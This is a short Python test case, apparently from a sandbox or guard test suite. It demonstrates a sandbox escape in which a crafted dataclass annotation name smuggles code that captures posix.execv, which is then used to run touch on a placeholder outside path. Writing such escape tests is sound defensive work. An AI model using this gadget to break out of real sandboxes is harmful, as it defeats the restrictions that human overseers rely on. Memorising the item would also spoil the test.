# category: syscalls
# attack: posix.execv through a dataclass gadget
# profile: basic
# run-layer: guard
import abc, dataclasses
box = []
X = abc.ABCMeta("X", (), {"__module__": "posix", "a": box,
    "__annotations__": {"a,self.a.append(execv)": int}})
Y = dataclasses.dataclass(init=False, repr=False)(X)
Y() == Y()
box[0]("/usr/bin/touch", ["touch", "@OUTSIDE@"])
